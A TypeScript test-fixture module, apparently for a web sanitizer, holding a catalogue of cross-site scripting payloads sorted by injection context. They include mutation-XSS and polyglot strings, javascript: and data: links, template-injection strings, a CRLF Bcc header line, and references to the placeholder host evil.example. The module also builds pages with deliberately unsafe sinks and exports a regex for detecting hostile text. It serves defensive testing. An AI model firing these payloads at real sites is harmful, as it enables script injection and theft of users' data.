import { SINKS } from './sinks'

type Case = readonly [sink: keyof typeof SINKS, words: string]

/**
 * Texts that run, load or lead away somewhere when they are taken for more than text, each with the mistake that it waits
 * for. Each either sets `window.__pwn` or asks for `evil.example`.
 */
const CASES: readonly Case[] = [
  // Elements
  ['element', '<script>window.__pwn=1</script>'],
  ['element', '<sCrIpT>window.__pwn=1</sCrIpT>'],
  ['element', '<script/x>window.__pwn=1</script>'],
  ['element', '<script\f>window.__pwn=1</script>'],
  ['element', '<<script>window.__pwn=1//<</script>'],
  ['element', '\u202e<script>window.__pwn=1</script>\u202c'],
  ['element', '\r\nBcc: victim@evil.example\r\n\r\n<script>window.__pwn=1</script>'],
  ['element', '<img src=x onerror=window.__pwn=1>'],
  ['element', '<IMG SRC=x ONERROR\n=\nwindow.__pwn=1>'],
  ['element', '<svg/onload=window.__pwn=1>'],
  ['element', '<svg><script>window.__pwn=1</script></svg>'],
  ['element', '<svg><animate onbegin=window.__pwn=1 attributeName=x dur=1s>'],
  ['element', '<svg><a xlink:href="javascript:window.__pwn=1"><text y=9>x</text></a></svg>'],
  ['element', '<details open ontoggle=window.__pwn=1>'],
  ['element', '<video><source onerror=window.__pwn=1></video>'],
  ['element', '<marquee onstart=window.__pwn=1>x</marquee>'],
  ['element', '<body onload=window.__pwn=1>'],
  ['element', '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>'],
  ['element', '<object data="//evil.example/x"></object>'],
  ['element', '<embed src="//evil.example/x">'],
  ['element', '<a href="javascript:window.__pwn=1">x</a>'],
  ['element', '<form action="https://evil.example/"><input name=x></form>'],
  ['element', '<button formaction=javascript:window.__pwn=1>x</button>'],
  ['element', '<base href="https://evil.example/">'],
  ['element', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['element', '<img src=//evil.example/x>'],
  ['element', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['element', '<style>@import "//evil.example/x.css";</style>'],
  // Elements that a parser makes of what a cleaner had taken for something else
  ['element', '<svg><style><img src=x onerror=window.__pwn=1>'],
  ['element', '<noscript><p title="</noscript><img src=x onerror=window.__pwn=1>">'],
  ['element', '<noembed><p title="</noembed><img src=x onerror=window.__pwn=1>">'],
  ['element', '<b>{count, plural, one {<script>window.__pwn=1</script>}}</b>'],
  // Out of what they stand in
  ['attribute in double quotes', '"><img src=x onerror=window.__pwn=1>'],
  ['attribute in single quotes', "'><svg onload=window.__pwn=1>"],
  ['attribute in double quotes', '" autofocus onfocus=window.__pwn=1 x="'],
  ['attribute in single quotes', "' autofocus onfocus=window.__pwn=1 x='"],
  ['attribute without quotes', 'x onerror=window.__pwn=1'],
  ['script in double quotes', '</script><script>window.__pwn=1</script>'],
  ['title', '</title><script>window.__pwn=1</script>'],
  ['textarea', '</textarea><script>window.__pwn=1</script>'],
  ['style', '</style><script>window.__pwn=1</script>'],
  ['comment', '--><script>window.__pwn=1</script>'],
  ['comment', '--!><img src=x onerror=window.__pwn=1>'],
  [
    'element',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.__pwn=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__pwn=1//>',
  ],
  // Scripts and styles
  ['script in single quotes', "';window.__pwn=1;//"],
  ['script in double quotes', '";window.__pwn=1;//'],
  ['script in double quotes, quotes escaped', '\\";window.__pwn=1;//'],
  ['script in a template', '`-(window.__pwn=1)-`'],
  ['comment of a script', '\u2028window.__pwn=1\u2029'],
  ['value of a style', 'red;background:url(//evil.example/x)'],
  // Addresses
  ['link', 'javascript:window.__pwn=1'],
  ['link', 'java\tscript:window.__pwn=1'],
  ['link', '\u0001JaVaScRiPt:window.__pwn=1'],
  ['link', 'data:text/html,<script>window.__pwn=1</script>'],
  ['link', '//evil.example/'],
  // What somebody could decode once too often
  ['decoded entities', '&lt;script&gt;window.__pwn=1&lt;/script&gt;'],
  ['decoded entities', '&#x3c;script&#x3e;window.__pwn=1&#x3c;/script&#x3e;'],
  ['decoded percents', '%3Cscript%3Ewindow.__pwn=1%3C/script%3E'],
  ['escapes of a script', '\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e'],
  ['escapes of a script', '\\x3cimg src=x onerror=window.__pwn=1\\x3e'],
  ['normalized letters', '\uff1cscript\uff1ewindow.__pwn=1\uff1c/script\uff1e'],
  // Templates
  ['evaluated template', '\u0024{window.__pwn=1}'],
  ['evaluated template', '{{constructor.constructor("window.__pwn=1")()}}'],
  ['evaluated template', '<%=window.__pwn=1%>'],
  ['markdown', '[x](javascript:window.__pwn=1)'],
  // Last in a text of all: it would swallow what follows.
  ['element', '<!--><img src=x onerror=window.__pwn=1>-->'],
]

export const POLYGLOTS: readonly string[] = CASES.map(([, words]) => words)

/** Each in a page that makes its mistake. */
export const CARELESS_PAGES: readonly string[] = CASES.map(([sink, words]) => SINKS[sink](words))

/** Marks by which a hostile text is known again. */
export const MARK = /__pwn|evil\.example/

/** All of them in one. */
export const ALL_POLYGLOTS = POLYGLOTS.join(' ')

/** Links that a rich text could carry. */
export const HOSTILE_LINKS = [
  'javascript:window.__pwn=1',
  'JaVaScRiPt:window.__pwn=1',
  ' javascript:window.__pwn=1',
  'java\tscript:window.__pwn=1',
  'data:text/html,<script>window.__pwn=1</script>',
  'vbscript:window.__pwn=1',
  '//evil.example/"onclick="window.__pwn=1',
]
